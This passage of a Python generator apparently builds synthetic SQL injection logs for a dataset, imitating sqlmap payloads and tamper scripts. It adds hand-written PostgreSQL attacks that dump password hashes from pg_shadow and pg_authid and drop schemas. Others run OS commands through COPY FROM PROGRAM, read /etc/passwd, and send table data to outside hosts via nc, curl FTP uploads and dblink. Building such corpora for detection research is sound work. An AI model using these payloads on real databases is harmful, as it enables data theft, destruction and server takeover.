                   (SQ, "SAP MaxDB stacked queries (heavy query - comment)", "stack", 1, ";SELECT %s" % heavy[1:-1], True)]
        elif dbms == "Microsoft Access":
            out = [(B, "Microsoft Access boolean-based blind - ORDER BY, GROUP BY clause", "order", 1, ",IIF(%s,1,1/0)" % INF, False),
                   (B, "Microsoft Access boolean-based blind - ORDER BY, GROUP BY clause (original value)", "order", 1, ",IIF(%s,{orig},1/0)" % INF, False),
                   (B, "Microsoft Access boolean-based blind - Parameter replace (original value)", "repl", 3, "IIF(%s,{orig},1/0)" % INF, False),
                   (B, "Microsoft Access boolean-based blind - Stacked queries", "stack", 1, ";IIF(%s,1,1/0)" % INF, True)]
        elif dbms == "ClickHouse":
            fb = "(SELECT COUNT(fuzzBits(%s, 0.001)) FROM numbers(%s))" % (q(S4), "%d000000" % SLEEP if not vector else "if((%s), %d000000, 1)" % (INF, SLEEP))
            se = "(SELECT count() FROM numbers(%d) WHERE sleepEachRow(%s)=0 SETTINGS max_block_size=1)" % (SLEEP, "1" if not vector else "if((%s),1,0)" % INF)
            out = [(TB, "ClickHouse AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, fb), False),
                   (TB, "ClickHouse OR time-based blind (heavy query)", "cond", 2, "OR %d=%s" % (R, fb), False),
                   (TB, "ClickHouse AND time-based blind (sleepEachRow)", "cond", 1, "AND %d=%s" % (R, se), False),
                   (TB, "ClickHouse OR time-based blind (sleepEachRow)", "cond", 2, "OR %d=%s" % (R, se), True),
                   (EB, "ClickHouse AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (getSetting)", "cond", 1, "AND %d=getSetting(%s||CAST((%s) AS String)||%s)" % (R, D1, QRY, D2), False)]
        elif dbms == "H2":
            out = [(EB, "H2 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (CAST)", "cond", 1, "AND %d=ROTATELEFT(CAST(%s||(%s)||%s AS INT),1)" % (R, D1, QRY, D2), False),
                   (EB, "H2 OR error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (CAST)", "cond", 2, "OR %d=ROTATELEFT(CAST(%s||(%s)||%s AS INT),1)" % (R, D1, QRY, D2), False)]
        elif dbms == "InterSystems Cache":
            out = [(EB, "InterSystems Cache AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=TO_POSIXTIME(TO_DATE(%s||(%s)||%s,%s))" % (R, D1, QRY, D2, q("YYYY")), False),
                   (EB, "InterSystems Cache OR error-based - WHERE or HAVING clause", "cond", 2, "OR %d=TO_POSIXTIME(TO_DATE(%s||(%s)||%s,%s))" % (R, D1, QRY, D2, q("YYYY")), False)]
        elif dbms == "Cubrid":
            out = [(TB, "CUBRID AND time-based blind (SLEEP)", "cond", 1, "AND %d=(SELECT SLEEP(%d) FROM db_root)" % (R, SLEEP), False),
                   (TB, "CUBRID OR time-based blind (SLEEP)", "cond", 2, "OR %d=(SELECT SLEEP(%d) FROM db_root)" % (R, SLEEP), False),
                   (EB, "CUBRID AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=CAST(%s||(%s)||%s AS NUMERIC)" % (R, D1, QRY, D2), False)]
        elif dbms == "Virtuoso":
            out = [(EB, "Virtuoso AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=bit_shift(CAST(%s||(%s)||%s AS INTEGER),1)" % (R, D1, QRY, D2), False),
                   (EB, "Virtuoso OR error-based - WHERE or HAVING clause", "cond", 2, "OR %d=bit_shift(CAST(%s||(%s)||%s AS INTEGER),1)" % (R, D1, QRY, D2), False)]
        elif dbms == "MonetDB":
            out = [(EB, "MonetDB AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=(SELECT ms_trunc(CAST(%s||CAST((%s) AS VARCHAR)||%s AS DECIMAL),1))" % (R, D1, QRY, D2), False)]
        elif dbms == "Vertica":
            out = [(EB, "Vertica AND error-based - WHERE or HAVING clause", "cond", 1, "AND %d=CAST(%s||(%s)::VARCHAR||%s AS NUMERIC)" % (R, D1, QRY, D2), False)]
        elif dbms == "Presto":
            out = [(EB, "Presto AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (PARSE_DATA_SIZE)", "cond", 1, "AND %d=PARSE_DATA_SIZE(%s||(%s)||%s)" % (R, D1, QRY, D2), False)]
        elif dbms == "SAP HANA":
            heavy = "(SELECT COUNT(*) FROM SYS.OBJECTS AS T1,SYS.OBJECTS AS T2,SYS.OBJECTS AS T3 WHERE LOWER(T1.OBJECT_NAME)!=UPPER(T2.OBJECT_NAME))"
            out = [(TB, "SAP HANA AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, heavy), False),
                   (TB, "SAP HANA AND time-based blind (heavy query - comment)", "cond", 1, "AND %d=%s" % (R, heavy), True),
                   (TB, "SAP HANA time-based blind - Parameter replace (heavy query)", "repl", 3, heavy, False)]
    return [(f, t, dbms, p, w, pl, c) for f, t, p, w, pl, c in out]


# how often each other DBMS's tests are drawn (dev.jsonl's mix)
OTHER_DBMS = ["MySQL"] * 8 + ["Oracle"] * 4 + ["Microsoft SQL Server"] * 2 + ["HSQLDB"] * 3 + ["IBM DB2", "SAP MaxDB"] * 2 + ["SQLite", "Firebird", "Informix",
              "Microsoft Access", "ClickHouse", "H2", "InterSystems Cache", "Cubrid", "Virtuoso", "MonetDB", "Vertica", "Presto", "SAP HANA"]


def sqlmap_tests(r, vector):
    """[(family, title, dbms, place, where, payload, comment, tag)] -- place: cond | order | repl | stack; where: 1 original,
    2 negative, 3 replaced.  For each family either PostgreSQL's and the generic tests or another DBMS's, in dev's shares."""
    R, R1, R2 = randnum(r), randnum(r), randnum(r)
    SLEEP = r.choice([5, 5, 5, 5, 3, 10, 7])
    o = Enc(r)
    D1, D2 = o.s(delimiter(r)), o.s(delimiter(r))
    INF = pg_inference(r, o) if vector else r.choice(["%d=%d" % (R1, R1)] * 4 + ["%d=%d" % (R1, R2)])
    QRY = enumeration(r, o) if vector else "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
    tag = ":vector" if vector else ":payload"
    pgs = pg_tests(r, vector, o, R, R1, R2, SLEEP, INF, QRY, D1, D2)
    others = []
    for _ in range(3):
        others += other_tests(r, vector, o, R, R1, R2, SLEEP, r.choice(OTHER_DBMS))
    out = []
    for fam in (B, TB, EB, SQ, IQ):
        mine = [t for t in others if t[0] == fam]
        if mine and r.random() < NONPG_SHARE[fam]:
            out += mine
        else:
            out += [t for t in pgs if t[0] == fam]
    return [t + (tag,) for t in out]


def sqlmap_takeover(r):
    """(switch, stacked statements) of sqlmap's file-system and takeover steps on PostgreSQL."""
    oid = r.randint(10000, 99999)
    cmd = r.choice(CMDS)
    sp = r.choice([chrs, q, q])
    tbl = "sqlmapfile"
    return r.choice([
        ("--file-read (table create)", ";DROP TABLE IF EXISTS %s;CREATE TABLE %s(data text)" % (tbl, tbl)),
        ("--file-read (COPY)", ";COPY %s(data) FROM %s" % (tbl, sp(r.choice(FILES)))),
        ("--file-read (lo_import)", ";SELECT lo_import(%s,%d)" % (sp(r.choice(FILES)), oid)),
        ("--file-read (lo_get)", ";SELECT encode(lo_get(%d),%s)" % (oid, sp("base64"))),
        ("--file-write (lo_create)", ";SELECT lo_create(%d)" % oid),
        ("--file-write (pg_largeobject)", ";INSERT INTO pg_largeobject VALUES (%d,0,DECODE(%s,%s))" % (oid, sp(base64.b64encode(bytes(r.randrange(256) for _ in range(12))).decode()), sp("base64"))),
        ("--file-write (lo_export)", ";SELECT lo_export(%d,%s)" % (oid, sp("/tmp/libs%s.so" % rword(r, 5)))),
        ("--os-cmd (output table)", ";DROP TABLE IF EXISTS sqlmapoutput;CREATE TABLE sqlmapoutput(data text)"),
        ("--os-cmd (COPY FROM PROGRAM)", ";COPY sqlmapoutput(data) FROM PROGRAM %s" % sp(cmd)),
        ("--os-cmd (read output)", ";SELECT string_agg(data,%s) FROM sqlmapoutput" % sp(chr(10))),
        ("--os-cmd (cleanup)", ";DROP TABLE sqlmapoutput"),
        ("--os-pwn (udf sys_eval)", ";CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/libs%s.so','sys_eval' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % rword(r, 5)),
        ("--os-cmd (sys_eval)", ";SELECT sys_eval(%s)" % sp(cmd))])


def sqlmap_union(r, vector):
    n, pos, filler, cols, kw, rng, where = union_request(r, 50, 2, 4, 0.4)
    fname = {"NULL": "NULL"}.get(filler, "[RANDNUM]")
    if r.random() < 0.25:
        fname, rng = "[CHAR]", "[COLSTART] to [COLSTOP]" if r.random() < 0.5 else rng
        cols = [q(rstr(r, 1).lower())] * n if r.random() < 0.4 else cols
        rng = rng + (" columns (custom)" if rng.startswith("[") else " columns")
    else:
        rng = rng + " columns"
    if r.random() < 0.24:
        # MySQL's UNION tests: hex delimiters in CONCAT(), '#' comment
        marker = "CONCAT(%s,%s,%s)" % (hx(delimiter(r)), hx(rword(r, 12)), hx(delimiter(r))) if not vector else \
            "CONCAT(%s,IFNULL(CAST(%s AS NCHAR),0x20),%s)" % (hx(delimiter(r)), r.choice(MYSQL_EXPRS), hx(delimiter(r)))
        cols[pos] = marker
        return "MySQL UNION query (%s) - %s" % (fname, rng), "MySQL", "%s %s" % (kw, ",".join(cols)) + HASH, where
    o = Enc(r)
    m1, m2 = o.s(delimiter(r)), o.s(delimiter(r))
    x = r.randrange(6)
    if x == 0:
        return "Generic UNION query (%s) - %s (ORDER BY)" % (fname, rng), "generic", "ORDER BY %d" % r.randint(1, 50), 1
    if x == 1 or not vector:
        cols[pos] = "%s||%s||%s" % (m1, o.s(rword(r, 12)), m2)
        return "Generic UNION query (%s) - %s" % (fname, rng), "generic", "%s %s" % (kw, ",".join(cols)), where
    src = r.choice([("pg_user", ["usename"]), ("pg_shadow", ["usename", "passwd"]), ("pg_roles", ["rolname"]), ("pg_namespace", ["nspname"]), ("", ["current_database()"]),
                    ("", ["current_user"]), ("", ["version()"]), ("pg_database", ["datname"])] + [("public." + t, c) for t, c in sorted(DUMP.items())])
    cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in src[1]], m1, o.s(delimiter(r)), m2)
    tail = (" FROM %s" % src[0] if src[0] else "") + (r.choice(["", "", " OFFSET %d LIMIT 1" % r.randint(0, 40)]) if src[0] else "")
    return "Generic UNION query (%s) - %s" % (fname, rng), "generic", "%s %s%s" % (kw, ",".join(cols), tail), where


_COMMENT = []


def sqlmap_comment(r):
    """dev's spellings: --, -- -, -- and four lower-case letters (a MySQL test's is #)."""
    if _COMMENT:
        return _COMMENT[0]
    return r.choice(["--"] * 5 + ["-- -"] * 2 + ["-- %s" % rword(r, 4)] * 2 + ["--%s" % r.choice([" ", "+"])])


def sqlmap_value(r, si, orig, place, where, payload, need_comment):
    """The parameter value of one request (boundary_value), redrawn up to five times while the statement it makes
    would not get through PostgreSQL's parser (plausible: the brackets, quotes and comments do not balance), but kept
    as it is about once in ten times -- so that, as in dev.jsonl, most requests that reach the log parse."""
    val = None
    for _ in range(6):
        val = boundary_value(r, si, orig, place, where, payload, need_comment)
        if val is not None:
            val = tidy(val, si["type"])
        if val is None or plausible_fill(si, val) or r.random() < 0.1:
            return val
    return val


def boundary_value(r, si, orig, place, where, payload, need_comment):
    """The parameter value with a boundary: corpus_kit's (sqlmap_slot_value) for most requests, and for about one in
    seven of the condition, UNION and stacked ones the boundaries dev also has: ') AS xxxx WHERE n=n, ' WHERE n=n,
    '||(SELECT 'xxxx' FROM DUAL WHERE n=n ...)||', the same without FROM DUAL, '+(SELECT ...)+' and ' IN BOOLEAN MODE)."""
    del _COMMENT[:]
    if payload.endswith(HASH):
        payload = payload[:-1]
        _COMMENT.append("#")
    try:
        typ = si["type"]
        if place in ("cond", "union", "stack") and typ in ("q", "e", "n", "list") and r.random() < 0.15:
            if where == 2:
                orig = "-%d" % randnum(r) if typ in ("n", "list") or r.random() < 0.5 else ""
            payload = payload.replace("{orig}", orig if typ in ("n", "list") or not orig else q(orig))
            qc = "'" if typ in ("q", "e") else ""
            N, S4 = randnum(r), rstr(r)
            cmt = sqlmap_comment(r)
            kinds = ["as_where", "where", "boolmode"] + (["concat_dual", "concat", "plus"] if qc and place == "cond" else [])
            k = r.choice(kinds)
            sep = "" if place == "stack" else " "
            if k == "as_where":
                return orig + qc + ")" + " AS %s WHERE %d=%d" % (S4, N, N) + sep + payload + cmt
            if k == "where":
                return orig + qc + " WHERE %d=%d" % (N, N) + sep + payload + cmt
            if k == "boolmode":
                return orig + qc + " IN BOOLEAN MODE)" + sep + payload + (cmt if r.random() < 0.8 else "#")
            if k == "concat_dual":
                return orig + "'||(SELECT '%s' FROM DUAL WHERE %d=%d %s)||'" % (S4, N, N, payload)
            if k == "concat":
                return orig + "'||(SELECT '%s' WHERE %d=%d %s)||'" % (S4, N, N, payload)
            return orig + "'+(SELECT '%s' WHERE %d=%d %s)+'" % (S4, N, N, payload)
        return corpus_kit.sqlmap_slot_value(globals(), r, si, orig, place, where, payload, need_comment or bool(_COMMENT))
    finally:
        del _COMMENT[:]


SQL_WORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE IN EXISTS ORDER BY GROUP HAVING LIMIT OFFSET
INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE FUNCTION RETURNS LANGUAGE COPY PROGRAM DISTINCT TEXT NUMERIC VARCHAR STRICT IF REPLACE
ASCII SUBSTRING LENGTH CHR COALESCE COUNT PG_SLEEP GENERATE_SERIES FOR CONCAT DECODE ENCODE SLEEP IIF ELT MID ORD""".split())


def tamper(r, name, s, typ):
    """Chains of tamper scripts, applied outside the payload's literals and comments: ord2ascii (ORD( as ASCII(),
    sleep2getlock (SLEEP(n) as GET_LOCK('xxxx',n)), ifnull2casewhenisnull, if2case, commalessmid (MID(a,b,c) as
    MID(a FROM b FOR c)), equaltorlike (= as RLIKE), hex2char (0x... as CONCAT(CHAR(...))), plus2concat (MSSQL +
    as CONCAT()), space2randomblank, randomcase and commentbeforeparentheses."""
    if "," in name:
        for part in name.split(","):
            s = tamper(r, part, s, typ)
        return s
    outside = lambda fn: edit(s, typ, fn)
    if name == "ord2ascii":
        return outside(lambda t, i, n: re.sub(r"(?i)\bORD\(", "ASCII(", t))
    if name == "sleep2getlock":
        return outside(lambda t, i, n: re.sub(r"(?i)\bSLEEP\((\d+)\)", lambda m: "GET_LOCK('%s',%s)" % (rstr(r), m.group(1)), t))
    if name == "ifnull2casewhenisnull":
        def ifn(t, i, n):
            return re.sub(r"(?i)\bIFNULL\(([^(),]+(?:\([^()]*\))?[^(),]*),([^(),]+)\)",
                          lambda m: "CASE WHEN ISNULL(%s) THEN (%s) ELSE (%s) END" % (m.group(1), m.group(2), m.group(1)), t)
        return outside(ifn)
    if name == "if2case":
        def i2c(t, i, n):
            return re.sub(r"(?i)\bIF\(([^(),]+(?:\([^()]*\))?[^(),]*),([^(),]+),([^(),]+)\)",
                          lambda m: "CASE WHEN (%s) THEN (%s) ELSE (%s) END" % (m.group(1), m.group(2), m.group(3)), t)
        return outside(i2c)
    if name == "commalessmid":
        return outside(lambda t, i, n: re.sub(r"(?i)\bMID\(([^(),]+(?:\([^()]*\))?[^(),]*),(\d+),(\d+)\)", r"MID(\1 FROM \2 FOR \3)", t))
    if name == "equaltorlike":
        return outside(lambda t, i, n: re.sub(r"(?<![<>!:=])=(?![=>])", " RLIKE ", t))
    if name == "hex2char":
        def h2c(t, i, n):
            return re.sub(r"\b0x([0-9a-fA-F]{2,})\b", lambda m: "CONCAT(%s)" % ",".join("CHAR(%d)" % b for b in bytes.fromhex(m.group(1) + "0" * (len(m.group(1)) % 2))), t)
        return outside(h2c)
    if name == "plus2concat":
        return outside(lambda t, i, n: re.sub(r"(\([^()]*\)|'[^']*'|[A-Za-z_@][A-Za-z_0-9@.]*)\+(\([^()]*\)|'[^']*'|[A-Za-z_@][A-Za-z_0-9@.]*)",
                                              r"CONCAT(\1,\2)", t))
    if name == "space2randomblank":
        return outside(lambda t, i, n: re.sub(r" ", lambda m: r.choice(["\t", "\n", "\r", "\f"]), t))
    if name == "randomcase":
        return outside(lambda t, i, n: re.sub(r"[A-Za-z_]{2,}", lambda m: "".join(c.upper() if r.random() < 0.5 else c.lower() for c in m.group(0))
                                              if m.group(0).upper() in SQL_WORDS else m.group(0), t))
    if name == "commentbeforeparentheses":
        return outside(lambda t, i, n: re.sub(r"\b(\w+)\(", r"\1/**/(", t))
    raise KeyError(name)


TAMPERS = ["ord2ascii", "sleep2getlock", "ifnull2casewhenisnull", "if2case", "commalessmid,randomcase", "equaltorlike", "hex2char", "plus2concat",
           "equaltorlike,space2randomblank", "if2case,commentbeforeparentheses", "ifnull2casewhenisnull,space2randomblank", "randomcase,equaltorlike",
           "sleep2getlock,ord2ascii", "hex2char,randomcase"]

union_fits = corpus_kit.union_in_query

SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
                           union_fits=union_fits, misfit=corpus_kit.misfit_share(0.75), vector_share=0.47, takeover_share=0.08, tamper_share=0.06)




# ---------------------------------------------------------------- hand-written PostgreSQL techniques
# mode: cond (an AND/OR clause) | union (a UNION tail) | stack (statements
# after ;) | repl (a value in place of the input) | concat (spliced into the
# string with ||) | order (one more ORDER BY expression) | row (more rows
# after the VALUES row the slot sits in; the core is a function of the
# row's width) | assign (more assignments in an UPDATE's SET list; {col} is
# a column the attacker wants) | returning (a RETURNING list on the DML
# statement) | conflict (an ON CONFLICT clause after the VALUES row) | iexpr
# (a term added to an interval literal) | jkey (a JSON key closed and the
# select list extended).  Cores named stored_* are values saved through one
# form and replayed by a later statement; they go only into the templates
# that replay stored values.
def secs(r):
    return r.choice([2, 4, 5, 6, 8, 10, 15, 20])


DO_TAGS = ["$b23$", "$body$", "$k23$", "$Ω$", "$go$", "$$", "$ñ3$", "$y_z$", "$FN23$", "$n$"]
OPEN_TAGS = ["$y23$", "$f$", "$ø3$", "$u_u$", "$$", "$w23$", "$Rr$", "$j$"]
# dollar tags an attacker tries when guessing how an application quotes its bodies
GUESSED_TAGS = ["$t23$", "$body$", "$$", "$txt$", "$q2$", "$fn$", "$_$", "$b$"]


def plain(cmd):
    return cmd.replace("'", "").replace('"', "")


def row_of(first, rest="DEFAULT"):
    return lambda n: ", ".join([first] + [rest] * (n - 1))


def bare(t):
    """A loot table's name as a string value (without the quotes of a quoted identifier)."""
    return t.strip('"')


def hand_cores(r, fam):
    a, b = r.randint(2, 99), r.randint(100, 9999)
    w, w2 = rword(r, r.randint(3, 7)), rword(r, r.randint(3, 6))
    s = secs(r)
    t, u, p, who = loot(r)
    e = target(r)
    x = "(%s)::text" % e
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    nm = rword(r, r.randint(4, 7)) + str(r.randint(0, 99))
    oid = r.randint(30000, 99999)
    role = r.choice(ROLES)
    pe = probe(r)
    sq = lambda v: v.replace("'", "''")
    pc = plain(cmd)
    if fam == "tautology":
        return [(n, "cond", c, PG) for n, c in [
            ("or_true_kw", "OR true"), ("or_not_null_is_null", "OR NOT (NULL IS NOT NULL)"), ("or_abs_eq", "OR abs(-%d) = %d" % (a, a)), ("or_length_word", "OR length('%s') = %d" % (w, len(w))),
            ("or_upper_word", "OR upper('%s') = '%s'" % (w, w.upper())), ("or_lower_word", "OR lower('%s') = '%s'" % (w.upper(), w)), ("or_coalesce_null", "OR coalesce(NULL, %d) = %d" % (a, a)),
            ("or_text_int_cast", "OR '%d'::int = %d" % (a, a)), ("or_array_length_two", "OR array_length(ARRAY[%d, %d], 1) = 2" % (a, b)), ("or_eq_any_array", "OR %d = ANY(ARRAY[%d, %d])" % (a, b, a)),
            ("or_regex_anchor", "OR '%s' ~ '^%s'" % (w, w[:2])), ("or_starts_with_word", "OR starts_with('%s%s', '%s')" % (w, w2, w)),
            ("or_symmetric_range", "OR %d BETWEEN SYMMETRIC %d AND 0" % (a, b)), ("or_row_compare", "OR (%d, '%s') = (%d, '%s')" % (a, w, a, w)),
            ("or_exists_values_pair", "OR EXISTS (VALUES (%d), (%d))" % (a, b)), ("or_int8range_contains", "OR int8range(1, %d) @> %d::bigint" % (b, a)), ("or_sign_one", "OR sign(%d) = 1" % a),
            ("or_md5_length", "OR length(md5('%s')) = 32" % w), ("or_now_not_null", "OR now() IS NOT NULL"), ("or_in_subselect", "OR %d IN (SELECT %d)" % (a, a)),
            ("or_jsonb_key_exists", "OR '{\"%s\": 1}'::jsonb ? '%s'" % (w, w)), ("or_translate_eq", "OR translate('%s', '%s', 'z') = '%s'" % (w, w[0], "z" + w[1:].replace(w[0], "z"))),
            ("or_reverse_word", "OR reverse('%s') = '%s'" % (w, w[::-1])), ("or_ascii_eq", "OR ascii('%s') = %d" % (w[0], ord(w[0]))), ("or_num_lt", "OR %d < %d" % (a, b)),
            ("or_square_eq", "OR %d * %d = %d" % (a, a, a * a)), ("or_repeat_eq", "OR repeat('%s', 2) = '%s%s'" % (w[:2], w[:2], w[:2])),
            ("stored_or_true_kw", "OR true"), ("stored_or_row_compare", "OR (%d, '%s') = (%d, '%s')" % (a, w, a, w))]] + [
            ("set_where_not_false", "assign", "{col} = {col} WHERE NOT false", PG), ("set_where_any", "assign", "{col} = DEFAULT WHERE %d = ANY('{%d}')" % (a, a), PG)]
    if fam == "union":
        n = r.randint(1, 5)
        pos = r.randrange(n)
        arms = [("pg_shadow", "usename||':'||coalesce(passwd,'')", " FROM pg_shadow"), ("pg_roles_super", "rolname||':'||rolsuper::text", " FROM pg_roles"),
                ("pg_stat_activity", "usename||' '||coalesce(query,'')", " FROM pg_stat_activity"), ("pg_file_settings", "sourcefile||':'||name||'='||setting", " FROM pg_file_settings"),
                ("pg_db_role_setting", "array_to_string(setconfig,',')", " FROM pg_db_role_setting"), ("pg_ident_file_mappings", "map_name||' '||sys_name||' '||pg_username", " FROM pg_ident_file_mappings"),
                ("role_table_grants", "grantee||' '||privilege_type||' '||table_name", " FROM information_schema.role_table_grants"),
                ("pg_largeobject_metadata", "oid::text||' '||lomowner::regrole::text", " FROM pg_largeobject_metadata"), ("loot", "%s||'/'||%s" % (u, p), " FROM %s" % t),
                ("pg_extension", "extname||' '||extversion", " FROM pg_extension"), ("server_port", "inet_server_port()::text||' '||current_setting('data_directory')", ""),
                ("pg_foreign_server", "srvname||' '||coalesce(array_to_string(srvoptions,','),'')", " FROM pg_foreign_server")]
        name, ex, frm = r.choice(arms)
        style = r.randrange(7)
        out = [("returning_shadow_agg", "returning", "RETURNING (SELECT string_agg(usename || ':' || passwd, ',') FROM pg_shadow)", PG),
               ("returning_settings_port", "returning", "RETURNING current_setting('port'), pg_backend_pid()", PG),
               ("stored_union_loot_pair", "union", "UNION ALL SELECT %s FROM %s" % (nulls(n, pos, "%s||'/'||%s" % (u, p)), t), PG)]
        if style == 0:
            return out + [("union_subselect_" + name, "union", "UNION ALL SELECT * FROM (SELECT %s%s) s23" % (nulls(n, pos, ex), frm), PG)]
        if style == 1:
            return out + [("union_fetch_first_" + name, "union", "UNION ALL SELECT %s%s FETCH FIRST %d ROWS ONLY" % (nulls(n, pos, ex), frm, r.randint(1, 20)), PG)]
        if style == 2:
            return out + [("union_select_distinct_" + name, "union", "UNION SELECT DISTINCT %s%s" % (nulls(n, pos, ex), frm), PG)]
        if style == 3:
            return out + [("union_json_row_" + name, "union", "UNION ALL SELECT %s%s" % (nulls(n, pos, "row_to_json(row(%s))::text" % ex), frm), PG)]
        if style == 4:
            return out + [("union_where_true_" + name, "union", "UNION ALL SELECT %s%s%s" % (nulls(n, pos, ex), frm, " WHERE true" if frm else ""), PG)]
        if style == 5:
            return out + [("union_order_by_one_" + name, "union", "UNION SELECT %s%s ORDER BY 1" % (nulls(n, pos, ex), frm), PG)]
        return out + [("union_lower_case_" + name, "union", "union all select %s%s" % (nulls(n, pos, ex), frm.lower() if "'" not in frm and '"' not in frm else frm), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("drop_schema_public", "DROP SCHEMA public CASCADE"), ("rename_column", "ALTER TABLE %s RENAME COLUMN %s TO %s_old" % (t, p, bare(p))),
            ("comment_on_table_deface", "COMMENT ON TABLE %s IS 'owned by %s'" % (t, w)), ("create_view_shadow", "CREATE VIEW %s AS SELECT usename, passwd FROM pg_shadow" % nm),
            ("grant_create_public_schema", "GRANT CREATE ON SCHEMA public TO PUBLIC"), ("insert_select_authid", "INSERT INTO %s (%s, %s) SELECT rolname, rolpassword FROM pg_authid" % (t, u, p)),
            ("update_all_null", "UPDATE %s SET %s = NULL" % (t, p)), ("vacuum_full_freeze", "VACUUM (FULL, FREEZE) %s" % t), ("alter_role_valid_until", "ALTER ROLE %s VALID UNTIL 'infinity'" % r.choice(["postgres", "loft_owner", nm])),
            ("alter_role_conn_limit_zero", "ALTER ROLE %s CONNECTION LIMIT 0" % r.choice(["app", "loft_owner", "web"])), ("set_role_postgres", "SET ROLE postgres"),
            ("drop_function_cascade", "DROP FUNCTION IF EXISTS %s CASCADE" % r.choice(["crypt(text, text)", "gen_random_uuid()", "set_updated_at()"])),
            ("create_matview_shadow", "CREATE MATERIALIZED VIEW %s AS SELECT * FROM pg_shadow" % nm), ("set_unlogged", "ALTER TABLE %s SET UNLOGGED" % t),
            ("rename_database", "ALTER DATABASE %s RENAME TO %s" % (r.choice(["app", "shop", "loft"]), nm)), ("alter_sequence_restart", "ALTER SEQUENCE %s_id_seq RESTART WITH 1" % bare(t).lower()),
            ("create_trigger_truncate", "CREATE TRIGGER %s BEFORE INSERT ON %s EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger()" % (nm, t)),
            ("reset_all_passwords", "UPDATE %s SET %s = md5('%s')" % (t, p, w)), ("grant_role_public", "GRANT %s TO PUBLIC" % role),
            ("security_invoker_off", "CREATE VIEW %s WITH (security_barrier = false) AS SELECT * FROM %s" % (nm, t)),
            ("discard_all", "DISCARD ALL"), ("checkpoint_then_drop", "CHECKPOINT; DROP TABLE %s" % t),
            ("stored_update_all_null", "UPDATE %s SET %s = NULL" % (t, p)), ("stored_drop_schema_public", "DROP SCHEMA public CASCADE")]] + [
            ("row_extra_literal", "row", row_of("'%s'" % w2), PG), ("row_authid_subselect", "row", lambda n: ", ".join(["(SELECT rolpassword FROM pg_authid LIMIT 1)"] + ["NULL"] * (n - 1)), PG),
            ("conflict_nothing_returning_roles", "conflict", "ON CONFLICT DO NOTHING RETURNING (SELECT string_agg(rolname, ',') FROM pg_roles)", PG)]
    if fam == "oob_file_program":
        return [(n, m, c, PG) for n, m, c in [
            ("read_binary_slice_missing", "stack", "SELECT pg_read_binary_file('%s', 0, %d, true)" % (f, r.choice([64, 512]))),
            ("stat_file_mtime", "stack", "SELECT (pg_stat_file('%s')).modification" % f),
            ("copy_to_program_gzip_nc", "stack", "COPY %s TO PROGRAM 'gzip | nc %s 443'" % (t, ip)),
            ("copy_from_program_awk", "stack", "CREATE TEMP TABLE %s (l text); COPY %s FROM PROGRAM 'awk -F: ''{print $1}'' /etc/passwd'" % (nm, nm)),
            ("copy_from_program_cmd_temp", "stack", "CREATE TEMP TABLE %s (o text); COPY %s FROM PROGRAM '%s'; SELECT string_agg(o, chr(10)) FROM %s" % (nm, nm, pc, nm)),
            ("copy_to_program_ftp", "stack", "COPY (SELECT %s FROM %s) TO PROGRAM 'curl -T - ftp://%s/%s.txt'" % (p, t, host, nm)),
            ("copy_binary_to_tmp", "stack", "COPY %s TO '/tmp/%s.bin' WITH (FORMAT binary)" % (t, nm)),
            ("copy_from_file_csv_header", "stack", "CREATE TEMP TABLE %s (c text); COPY %s FROM '%s' WITH (FORMAT csv, DELIMITER '|')" % (nm, nm, f)),
            ("lo_import_unlink", "stack", "SELECT lo_get(%d) FROM (SELECT lo_import('%s', %d)) z; SELECT lo_unlink(%d)" % (oid, f, oid, oid)),
            ("lo_put_export_tmp", "stack", "SELECT lo_create(%d); SELECT lo_put(%d, 0, '\\x23212f62696e2f7368'); SELECT lo_export(%d, '/tmp/%s.sh')" % (oid, oid, oid, nm)),
            ("dblink_connect_u_host", "stack", "SELECT dblink_connect_u('host=%s user=postgres dbname=postgres')" % host),
            ("dblink_subdomain_user", "stack", "SELECT dblink_connect('host=' || current_user || '.%s dbname=x')" % host),
            ("dblink_send_query_exfil", "stack", "SELECT dblink_send_query('host=%s dbname=x', 'SELECT ' || quote_literal((SELECT %s FROM %s LIMIT 1)))" % (ip, p, t)),
            ("fdw_foreign_table_program", "stack", "CREATE FOREIGN TABLE %s (l text) SERVER %s OPTIONS (program '%s')" % (nm, r.choice(["files", "file_server"]), pc)),
            ("alter_system_ssl_passphrase", "stack", "ALTER SYSTEM SET ssl_passphrase_command = '%s'; SELECT pg_reload_conf()" % pc),
            ("ls_dir_missing_ok_cond", "cond", "AND (SELECT count(*) FROM pg_ls_dir('%s', true, false)) > 0" % r.choice(["/tmp", "pg_wal", "/etc", "base"])),
            ("stat_file_size_cond", "cond", "AND (pg_stat_file('%s', true)).size > %d" % (f, a)), ("read_file_like_cond", "cond", "AND pg_read_file('%s', 0, 100) LIKE 'root%%'" % f),
            ("read_binary_union", "union", "UNION ALL SELECT %s" % nulls(r.randint(1, 4), 0, "encode(pg_read_binary_file('%s'), 'escape')" % f)),
            ("stat_file_union", "union", "UNION SELECT %s" % nulls(r.randint(1, 4), 0, "(pg_stat_file('%s')).size::text" % f)),
            ("read_file_length_repl", "repl", "(SELECT length(pg_read_file('%s')))" % f), ("read_binary_concat", "concat", "encode(pg_read_binary_file('%s', 0, 120), 'base64')" % f),
